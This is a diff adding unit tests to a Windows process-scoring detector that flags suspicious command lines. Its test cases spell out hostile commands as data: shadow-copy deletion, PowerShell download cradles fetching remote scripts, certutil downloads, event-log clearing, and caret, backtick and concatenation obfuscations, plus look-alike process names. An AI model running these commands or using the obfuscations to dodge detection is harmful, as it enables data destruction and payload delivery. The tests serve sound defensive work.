@@ -2,6 +2,7 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <nlohmann/json.hpp>
 #include <string>
 
@@ -303,5 +304,149 @@ TEST(ScoreProcessExtended, AgreesWithScoreProcessWhereNothingChanged) {
                   ScoreProcess(c.name, c.path, c.commandLine, specified))
             << WideToUtf8(c.commandLine);
         EXPECT_EQ(extended, specified) << WideToUtf8(c.name);
+    }
+}
+
+// Each spelling variation that took a textbook line below the threshold: the
+// normalised text, the look-alike name and the shell starting a tool bring it
+// back, with the signals the textbook line shows.
+TEST(ScoreProcessExtended, SpellingVariationsScoreLikeTheTextbookLine) {
+    const std::wstring ps = L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
+    const std::wstring cmd = L"C:\\Windows\\System32\\cmd.exe";
+    const std::wstring vss = L"C:\\Windows\\System32\\vssadmin.exe";
+    const std::wstring cradle = L"IEX (New-Object Net.WebClient).DownloadString('http://x/a.ps1')";
+    const struct {
+        const char* what;
+        std::wstring name, path, commandLine;
+        const char* signal;  // one signal the line must show
+    } cases[] = {
+        {"doubled blank", L"vssadmin.exe", vss, L"vssadmin delete  shadows /all /quiet",
+         "shadowcopy_command"},
+        {"tab", L"vssadmin.exe", vss, L"vssadmin delete\tshadows /all /quiet", "shadowcopy_command"},
+        {"quoted switch", L"powershell.exe", ps,
+         L"powershell -\"enc\" " + Encoded(u"vssadmin delete shadows"), "shadowcopy_command"},
+        {"carets through cmd", L"cmd.exe", cmd, L"cmd /c v^s^s^a^d^m^i^n d^e^l^e^t^e s^h^a^d^o^w^s /all",
+         "backup_or_boot_tool"},
+        {"quotes through cmd", L"cmd.exe", cmd, L"cmd /c \"w\"m\"i\"c sha\"dowcopy\" delete", "lolbin_tool"},
+        {"backticks", L"powershell.exe", ps,
+         L"powershell -c \"I`E`X (New-Object Net.WebClient).`D`o`w`n`l`o`a`d`S`t`r`i`n`g('http://x/a')\"",
+         "script_download_cradle"},
+        {"concatenated method", L"powershell.exe", ps,
+         L"powershell -c \"IEX (New-Object Net.WebClient).('Down'+'loadString').Invoke('http://x/a')\"",
+         "script_download_cradle"},
+        {"concatenated program", L"powershell.exe", ps,
+         L"powershell -c \"& ('vss'+'admin') ('del'+'ete') ('sha'+'dows') /all /quiet\"",
+         "shadowcopy_command"},
+        {"encoded and escaped inside", L"powershell.exe", ps,
+         L"powershell -e " + Encoded(u"I`EX (New-Object Net.WebClient).('Down'+'loadString')('http://x/a')"),
+         "script_download_cradle"},
+        {"look-alike name", L"svch0st.exe", L"C:\\Users\\u\\AppData\\Roaming\\svch0st.exe", L"svch0st.exe",
+         "core_name_lookalike"},
+        {"look-alike name, path unknown", L"scvhost.exe", L"", L"", "core_name_lookalike"},
+        {"cmd starting PowerShell with carets", L"cmd.exe", cmd, L"cmd /c p^owershell -c \"" + cradle + L"\"",
+         "powershell_started_by_command"},
+    };
+    for (const auto& c : cases) {
+        std::string fragment, decoded;
+        EXPECT_GE(ScoreProcessExtended(c.name, c.path, c.commandLine, fragment, decoded), 60) << c.what;
+        EXPECT_NE(fragment.find(std::string("\"") + c.signal + "\""), std::string::npos)
+            << c.what << fragment;
+    }
+}
+
+// A near-miss spelling is weaker evidence than look-alike characters: under
+// Program Files it does not count.
+TEST(ScoreProcessExtended, SlipsCountOutsideInstalledProgramsOnly) {
+    const struct {
+        std::wstring name, path;
+        bool lookAlike;
+    } cases[] = {
+        {L"winint.exe", L"C:\\Program Files\\Winint\\winint.exe", false},
+        {L"winint.exe", L"C:\\Users\\u\\AppData\\Local\\winint.exe", true},
+        {L"winint.exe", L"", true},
+        {L"w1ninit.exe", L"C:\\Program Files\\W\\w1ninit.exe", true},
+    };
+    for (const auto& c : cases) {
+        std::string fragment, decoded;
+        ScoreProcessExtended(c.name, c.path, L"", fragment, decoded);
+        EXPECT_EQ(fragment.find("core_name_lookalike") != std::string::npos, c.lookAlike)
+            << WideToUtf8(c.path) << fragment;
+    }
+}
+
+TEST(ClaimedStem, WhatAClaimedNameStandsFor) {
+    const struct {
+        std::wstring claimed, stem;
+    } cases[] = {
+        {L"VSSADMIN.EXE.MUI", L"vssadmin"},
+        {L"vssadmin.exe", L"vssadmin"},
+        {L"vssadmin", L"vssadmin"},
+        {L"pwsh.dll", L"pwsh"},
+        {L"C:\\x\\Tool.exe", L"tool"},
+        {L"tool.exe  ", L"tool"},
+        {L".mui", L".mui"},
+        {L"", L""},
+        {L"a.b.c", L"a.b"},
+    };
+    for (const auto& c : cases) EXPECT_EQ(ClaimedStem(c.claimed), c.stem) << WideToUtf8(c.claimed);
+    EXPECT_FALSE(ClaimsOtherName(L"pwsh.exe", L"pwsh.dll"));
+    EXPECT_FALSE(ClaimsOtherName(L"powershell.exe", L"PowerShell.EXE.MUI"));
+    EXPECT_FALSE(ClaimsOtherName(L"svc.exe", L""));
+    EXPECT_TRUE(ClaimsOtherName(L"svc.exe", L"vssadmin.exe"));
+}
+
+// The version resource's names: a copy of a system tool under another name
+// scores as the tool (its command line read as the tool's), plus
+// renamed_system_tool; a claim only ever adds; a claim of the image's own
+// name changes nothing.
+TEST(ScoreProcessExtended, ClaimedNamesOnlyRaiseTheScore) {
+    const std::wstring temp = L"C:\\Users\\u\\AppData\\Local\\Temp\\";
+    const struct {
+        const char* what;
+        std::wstring name, original, internal, path, commandLine;
+        int32_t score;
+        const char* fragment;
+    } cases[] = {
+        {"copied shadow-copy tool", L"svc.exe", L"VSSADMIN.EXE.MUI", L"", temp + L"svc.exe",
+         L"svc.exe delete shadows /all /quiet", 105,
+         "\"score\":105,\"signals\":[\"backup_or_boot_tool\",\"shadowcopy_command\",\"user_space_location\","
+         "\"renamed_system_tool\"]"},
+        {"by its internal name", L"svc.exe", L"", L"vssadmin", temp + L"svc.exe",
+         L"svc.exe delete shadows /all /quiet", 105,
+         "\"score\":105,\"signals\":[\"backup_or_boot_tool\",\"shadowcopy_command\",\"user_space_location\","
+         "\"renamed_system_tool\"]"},
+        {"copied certificate tool, read as the tool", L"tool.exe", L"CertUtil.exe.mui", L"",
+         temp + L"tool.exe", L"\"" + temp + L"tool.exe\" -urlcache -f http://x/a.exe a.exe", 100,
+         "\"score\":100,\"signals\":[\"lolbin_tool\",\"user_space_location\",\"system_tool_download\","
+         "\"renamed_system_tool\"]"},
+        {"a command line of arguments only", L"nt.exe", L"wevtutil.exe", L"", temp + L"nt.exe",
+         L"cl Security", 100,
+         "\"score\":100,\"signals\":[\"user_space_location\",\"event_log_clearing\",\"renamed_system_"
+         "tool\"]"},
+        {"claims a core name away from its folder", L"host.exe", L"svchost.exe", L"",
+         L"C:\\Windows\\System32\\host.exe", L"", 60, "\"score\":60,\"signals\":[\"core_name_masquerade\"]"},
+        {"claims a harmless program", L"vssadmin.exe", L"notepad.exe", L"",
+         L"C:\\Windows\\System32\\vssadmin.exe", L"vssadmin delete shadows /all", 65,
+         "\"score\":65,\"signals\":[\"backup_or_boot_tool\",\"shadowcopy_command\"]"},
+        {"claims its own name", L"powershell.exe", L"PowerShell.EXE.MUI", L"POWERSHELL",
+         L"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", L"powershell -nop", 25,
+         "\"score\":25,\"signals\":[\"script_engine_powershell\"]"},
+        {"an everyday program's own build name", L"Code.exe", L"electron.exe", L"",
+         L"C:\\Program Files\\Microsoft VS Code\\Code.exe", L"Code.exe --folder-uri x", 5,
+         "\"score\":5,\"signals\":[\"non_windows_system_drive\"]"},
+    };
+    for (const auto& c : cases) {
+        std::string fragment, decoded, plain, plainDecoded;
+        const int32_t score =
+            ScoreProcessExtended(c.name, c.original, c.internal, c.path, c.commandLine, fragment, decoded);
+        EXPECT_EQ(score, c.score) << c.what;
+        EXPECT_EQ(fragment, c.fragment) << c.what;
+        EXPECT_GE(score, ScoreProcessExtended(c.name, c.path, c.commandLine, plain, plainDecoded)) << c.what;
+        // Every signal of the image name alone is still there.
+        const auto all = nlohmann::json::parse("{" + fragment + "}");
+        const auto alone = nlohmann::json::parse("{" + plain + "}");
+        for (const auto& signal : alone.value("signals", nlohmann::json::array()))
+            EXPECT_NE(std::find(all["signals"].begin(), all["signals"].end(), signal), all["signals"].end())
+                << c.what << " lost " << signal;
     }
 }
